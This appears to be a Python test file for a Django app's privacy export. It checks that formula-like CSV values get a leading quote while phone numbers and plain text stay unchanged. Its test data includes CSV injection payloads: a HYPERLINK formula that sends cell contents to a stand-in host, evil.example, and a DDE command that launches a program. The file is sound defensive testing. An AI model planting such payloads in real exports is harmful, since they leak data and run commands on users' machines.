"""CSV exports open in spreadsheets: a value a spreadsheet would run as a formula is written with a
leading quote; plain numbers and phone numbers are written as they are."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from identity.privacy.exports import _csv_safe
from identity.privacy.services import dsr_create
from tests.privacy.conftest import person_make

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=1+HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=5",
]
PLAIN = ["-5", "+1 (415) 555-0100", "+14155550123", "12.50", "Jane Doe", "", "a=b"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formulas_get_a_leading_quote(value):
    assert _csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_numbers_phones_and_text_stay_as_they_are(value):
    assert _csv_safe(value) == value


def test_a_downloaded_export_neutralises_formulas_and_keeps_phone_numbers(client, tenant):
    person = person_make(tenant.workspace, name=FORMULAS[0], email="jane.doe@example.org", phone="+1 (415) 555-0100")
    person.customer.company = FORMULAS[1]
    person.customer.save(update_fields=["company"])
    dsr = dsr_create(workspace=tenant.workspace, customer=person.customer, kind="export", via="workspace")
    client.force_login(tenant.owner)
    url = reverse(
        "privacy:dsr_workspace_download", kwargs={"ws": tenant.workspace.slug, "request_id": dsr.pk, "fmt": "csv"}
    )
    response = client.get(url)
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as zf, zf.open("profile.csv") as fh:
        [row] = list(csv.DictReader(io.TextIOWrapper(fh, encoding="utf-8")))
    assert row["name"] == "'" + FORMULAS[0]
    assert row["company"] == "'" + FORMULAS[1]
    assert row["phone"] == "+1 (415) 555-0100"
    assert row["email"] == "jane.doe@example.org"
